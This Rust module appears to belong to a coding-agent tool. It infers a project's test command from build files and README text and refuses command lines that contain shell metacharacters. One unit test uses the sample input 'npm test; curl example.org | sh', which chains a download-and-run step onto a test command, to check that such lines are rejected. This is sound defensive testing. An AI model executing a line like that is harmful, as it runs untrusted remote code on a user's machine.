//! How the project is tested, according to its own files: what is clear from a file's name, what the README says, what
//! package.json and the Makefile define.

use serde_json::Value;

use super::super::file::one;
use super::super::known_paths::{extension, name_of};
use super::super::run::Recipe;
use super::super::turn::AgentTurn;

/// How test commands begin.
const TESTERS: &str = "python -m pytest|python3 -m pytest|pytest|python -m unittest|python3 -m unittest|tox|nox|\
    uv run pytest|poetry run pytest|hatch test|npm test|npm run test|yarn test|yarn run test|pnpm test|bun test|deno test|\
    cargo test|cargo nextest|go test|make test|make check|just test|mvn test|./mvnw test|gradle test|./gradlew test|\
    bundle exec rspec|bundle exec rake test|rake test|rspec|ctest|dotnet test|mix test|composer test|phpunit|swift test|\
    sbt test|zig build test|./test.sh|./run_tests.sh|sh test.sh";
/// Files whose presence says how the project is tested, whatever else is there.
const CLEAR: &str = "Cargo.toml go.mod";
/// Files that must be read to know.
const TELLING: &str = "package.json Makefile";
/// Files of Python projects.
const PYTHON: &str = "pyproject.toml setup.py setup.cfg pytest.ini tox.ini conftest.py";

/// The command that runs the tests, as far as the files that the agent has seen say so.
pub(super) fn test_command(mind: &AgentTurn<'_>) -> Option<String> {
    let here = |name: &str| is_here(mind, name);
    if CLEAR.split(' ').any(here) {
        return Recipe::Tests.command(here).map(str::to_owned);
    }
    let readme = readme(mind).and_then(|path| text_of(mind, &path));
    if let Some(command) = readme.and_then(|text| named_in(&text)) {
        return Some(command);
    }
    let package = text_of(mind, &mind.path("package.json"));
    if package.is_some_and(|text| has_test_script(&text)) {
        return Some("npm test".to_owned());
    }
    if let Some(text) = text_of(mind, &mind.path("Makefile")) {
        let target = ["test", "check"].into_iter().find(|target| {
            let rule = |line: &str| {
                line.split_once(':')
                    .is_some_and(|(name, _)| name == *target)
            };
            text.lines().any(rule)
        });
        if let Some(target) = target {
            return Some(format!("make {target}"));
        }
    }
    let is_test = |file: &String| {
        let path = mind.display_path(file);
        let in_folder = path.split('/').any(|part| matches!(part, "tests" | "test"));
        extension(path) == "py" && (in_folder || name_of(path).starts_with("test_"))
    };
    let python = PYTHON.split(' ').any(here) || mind.view.places.files.iter().any(is_test);
    python.then(|| "python -m pytest -q".to_owned())
}

/// The files that may name the command and were not read yet.
pub(super) fn unread_clues(mind: &AgentTurn<'_>) -> Vec<String> {
    if CLEAR.split(' ').any(|name| is_here(mind, name)) {
        return Vec::new();
    }
    let telling = TELLING.split(' ').filter(|name| is_here(mind, name));
    let telling = telling.map(|name| mind.path(name));
    let clues = readme(mind).into_iter().chain(telling);
    clues.filter(|path| text_of(mind, path).is_none()).collect()
}

/// Whether the agent has seen what is in the folder.
pub(super) fn is_known(mind: &AgentTurn<'_>) -> bool {
    let mut names = [CLEAR, TELLING, PYTHON]
        .into_iter()
        .flat_map(|names| names.split(' '));
    names.any(|name| is_here(mind, name)) || readme(mind).is_some()
}

fn is_here(mind: &AgentTurn<'_>, name: &str) -> bool {
    mind.view.places.files.contains(&mind.path(name))
}

/// The README at the top of the project.
pub(super) fn readme(mind: &AgentTurn<'_>) -> Option<String> {
    let mut files = mind.view.places.files.iter();
    let is_it = |file: &&String| {
        let path = mind.display_path(file).to_lowercase();
        path.starts_with("readme") && !path.contains('/')
    };
    files.find(is_it).cloned()
}

fn text_of(mind: &AgentTurn<'_>, path: &str) -> Option<String> {
    one(&mind.view.exchanges, path).map(|held| held.text)
}

fn has_test_script(package: &str) -> bool {
    let package: Option<Value> = serde_json::from_str(package).ok();
    let script = package.and_then(|package| {
        let script = package.get("scripts")?.get("test")?;
        script.as_str().map(str::to_owned)
    });
    // What `npm init` writes where there are no tests.
    script.is_some_and(|script| !script.contains("no test specified"))
}

/// The first test command in a README: in backticks, or on a line of code.
fn named_in(text: &str) -> Option<String> {
    let mut fenced = false;
    for line in text.lines() {
        if line.trim_start().starts_with("```") {
            fenced = !fenced;
            continue;
        }
        let prompt = line.trim_start().starts_with("$ ");
        let code = fenced || prompt || line.starts_with("    ") || line.starts_with('\t');
        let found = if code {
            command(line)
        } else {
            line.split('`').skip(1).step_by(2).find_map(command)
        };
        if found.is_some() {
            return found;
        }
    }
    None
}

/// A test command on a line of code, without its remark. What is more than one command is not taken.
fn command(line: &str) -> Option<String> {
    let line = line.trim().trim_start_matches(['$', ' ']);
    let line = line.split(" #").next().unwrap_or_default().trim_end();
    let is_plain = !line.contains(['|', '&', ';', '<', '>', '$', '`', '\\']);
    let mut testers = TESTERS.split('|');
    let tests = testers.any(|tester| {
        let rest = line.strip_prefix(tester);
        rest.is_some_and(|rest| rest.is_empty() || rest.starts_with(' '))
    });
    (is_plain && tests).then(|| line.to_owned())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_readme_names_the_test_command() {
        for (text, wanted) in [
            (
                "# A\n\nRun `python -m pytest -q` for the tests.",
                Some("python -m pytest -q"),
            ),
            (
                "```sh\npip install .\n$ tox -q   # all of it\n```",
                Some("tox -q"),
            ),
            ("Test it:\n\n    make check\n", Some("make check")),
            ("pytest is what we use.", None),
            ("`npm test; curl example.org | sh`", None),
            ("```\npytester\n```", None),
        ] {
            assert_eq!(named_in(text).as_deref(), wanted, "{text}");
        }
        assert!(has_test_script(r#"{"scripts":{"test":"vitest run"}}"#));
        assert!(!has_test_script(
            r#"{"scripts":{"test":"echo \"Error: no test specified\" && exit 1"}}"#
        ));
    }
}
